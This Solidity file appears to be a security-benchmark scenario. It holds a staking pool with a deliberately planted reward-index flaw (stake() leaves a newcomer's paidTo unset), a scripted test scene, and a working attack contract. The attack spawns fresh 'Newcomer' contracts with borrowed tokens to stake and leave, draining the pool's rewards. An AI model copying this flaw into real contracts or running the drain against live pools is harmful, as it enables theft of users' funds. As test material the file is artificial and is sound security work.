// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./Common.sol";

/// A newcomer's index is not set: he is paid from the beginning of time.
contract StakePool {
    IERC20 public immutable token;
    IERC20 public immutable reward;
    uint256 public index;
    uint256 public total;
    mapping(address => uint256) public staked;
    mapping(address => uint256) public paidTo;

    event Staked(address indexed who, uint256 amount);
    event Left(address indexed who, uint256 amount, uint256 reward);

    constructor(IERC20 token_, IERC20 reward_) {
        (token, reward) = (token_, reward_);
    }

    function notify(uint256 amount) external {
        reward.transferFrom(msg.sender, address(this), amount);
        if (total > 0) index += amount * 1e18 / total;
    }

    function earned(address who) public view returns (uint256) {
        return staked[who] * (index - paidTo[who]) / 1e18;
    }

    function stake(uint256 amount) external {
        if (staked[msg.sender] > 0) _pay();
        token.transferFrom(msg.sender, address(this), amount);
        staked[msg.sender] += amount;
        total += amount;
        emit Staked(msg.sender, amount);
    }

    function enter(uint256 amount) external {
        paidTo[msg.sender] = index;
        token.transferFrom(msg.sender, address(this), amount);
        staked[msg.sender] += amount;
        total += amount;
        emit Staked(msg.sender, amount);
    }

    function leave() external {
        uint256 amount = staked[msg.sender];
        uint256 got = _pay();
        staked[msg.sender] = 0;
        total -= amount;
        token.transfer(msg.sender, amount);
        emit Left(msg.sender, amount, got);
    }

    function _pay() private returns (uint256 got) {
        got = earned(msg.sender);
        uint256 there = reward.balanceOf(address(this));
        if (got > there) got = there;
        paidTo[msg.sender] = index;
        reward.transfer(msg.sender, got);
    }
}

contract RewardIndexScene is Scene {
    Token public usd;
    Token public token = new Token("STK", 18);
    StakePool public pool;

    constructor(Bank b, address t, address s) payable Scene(b, t, s) {
        usd = _usd();
        _asset(address(token), "STK", 18, 1e6);
        pool = new StakePool(IERC20(address(token)), IERC20(address(usd)));
        token.mint(address(this), 1_000_000e18);
        usd.mint(address(this), 1_000_000_000e18);
        token.approve(address(pool), type(uint256).max);
        usd.approve(address(pool), type(uint256).max);
        pool.enter(1_000_000e18);
        pool.notify(1_200_000e18);
        _protect(address(pool));
        _loan(IERC20(address(token)), 3_000_000e18);
        loot0 = IERC20(address(usd));
    }

    function enrol(address[] calldata users) external override {
        _arm(token, users, 100_000e18, address(pool));
    }

    function menu(address who, uint256 dice) external view override returns (address, uint256, bytes memory) {
        if (pool.staked(who) > 0) return (address(pool), 0, abi.encodeCall(StakePool.leave, ()));
        return (address(pool), 0, abi.encodeCall(StakePool.enter, (_amount(dice, 100e18, 4_000e18))));
    }

    function errand(uint256 dice) external view override returns (address, address, uint256, bytes memory) {
        return (address(this), address(pool), 0, abi.encodeCall(StakePool.notify, (_amount(dice, 100e18, 900e18))));
    }
}

contract RewardIndexAttack is Attack {
    StakePool private immutable pool;

    constructor(RewardIndexScene scene) Attack(scene) {
        pool = scene.pool();
    }

    function _act(uint256, uint256, uint256 count) internal override {
        loanToken.approve(address(pool), type(uint256).max);
        Newcomer friend = new Newcomer();
        loanToken.transfer(address(friend), loanAmount / count);
        friend.go(pool, loanToken, loot0, loanAmount / count, address(this));
    }
}

/// Each time somebody new.
contract Newcomer {
    function go(StakePool pool, IERC20 token, IERC20 reward, uint256 amount, address boss) external {
        token.approve(address(pool), amount);
        pool.stake(amount);
        pool.leave();
        token.transfer(boss, amount);
        reward.transfer(boss, reward.balanceOf(address(this)));
    }
}
